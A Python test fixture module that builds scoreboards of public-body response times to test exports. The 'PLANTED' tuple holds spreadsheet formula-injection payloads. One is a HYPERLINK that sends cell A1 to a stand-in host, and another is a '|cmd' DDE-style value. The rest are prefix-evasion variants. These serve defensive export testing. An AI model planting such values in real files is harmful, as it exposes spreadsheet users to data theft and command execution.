"""Scoreboards with every metric there is, for the tests of what is exported."""

from __future__ import annotations

from dataclasses import replace

from scoreboards import scoreboard, since

from socialscore.inputs.ranking import load_ranking
from socialscore.model.messages import Body
from socialscore.model.scoreboard import Band, Score, Scoreboard
from socialscore.scoring.metrics import metrics_for

METRICS = metrics_for(load_ranking(None, {"clock": "business", "within": "90m,4h,2d,1w"}))

PLANTED = (  # what a spreadsheet would run
    '=HYPERLINK("https://armorelle.example/?"&A1;"Roz")',
    "@SUM(A1:A9)",
    "+1",
    "-2+3|cmd",
    " =1+1",
    '"=1+1',
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "\u200b=1+1",
    "Roz;=1+1",
    "Roz,=1+1",
    "Roz\t=1+1",
    'Roz;" =1+1',
)


def values(n: int) -> dict[str, float | int | None]:
    """A value of every metric, none twice."""
    made: dict[str, float | int | None] = {}
    for number, metric in enumerate(METRICS):
        if metric.unit == "count":
            made[metric.name] = 100 * number + n
        elif metric.unit == "share":
            made[metric.name] = (number + 1) / (len(METRICS) + n + 1)
        else:
            made[metric.name] = 86_399.4 / (number + n) + n
    return made | {"devoted_index": -1_000 - n}


def complete() -> Scoreboard:
    """Ranked bodies, some without a value, and others with every reason; accents throughout."""
    reasons = ("too-few", "closed", "no-account", "not-collected", "low-coverage", "suspect")
    ranked = [
        Score(
            Body(f"body-{n}", name, "région"),
            values(n),
            rank=n,
            rank_low=n,
            rank_high=3,
            percentile=(3 - n) / 2,
            band="Très bien" if n == 1 else None,
            change=since(30, 50, 42, 60, rank=2),
        )
        for n, name in enumerate(("Saint-Éloi-sur-Brève", "Île-aux-Œufs", "Kermorvan"), start=1)
    ]
    ranked[1] = replace(ranked[1], values={**values(2), "median_wait": None, "shrunk_rate": None})
    others = [
        Score(Body(f"other-{n}", f"Bourg {n}"), dict.fromkeys(values(n), None), reason=reason)
        for n, reason in enumerate(reasons)
    ]
    return scoreboard(
        *ranked,
        *others,
        metrics=METRICS,
        title="Who answers?",
        title_fr="Qui répond ?",
        description="How fast public bodies answer.",
        description_fr="En combien de temps les organismes répondent.",
        notes=("The clocks went back on 25 October: the period has an hour more.",),
        compared_to="2026-W45",
        bands=(Band("Très bien", {"response_rate": 0.9}, label_fr="Rapide"),),
    )


def planted() -> Scoreboard:
    """Every text that comes from a file is one that a spreadsheet would run."""
    scores = [
        Score(
            Body(f"{text}{n}", text, text),
            values(n),
            rank=n,
            band=text,
            reason=None,
        )
        for n, text in enumerate(PLANTED, start=1)
    ]
    unranked = Score(Body("roz", "Roz", ""), values(99), reason=PLANTED[0])
    first = PLANTED[0]
    return scoreboard(
        *scores,
        unranked,
        metrics=METRICS,
        title=first,
        title_fr=first,
        description=PLANTED[1],
        description_fr=PLANTED[2],
        panel=PLANTED[3],
        notes=PLANTED,
        bands=tuple(Band(text) for text in PLANTED),
    )
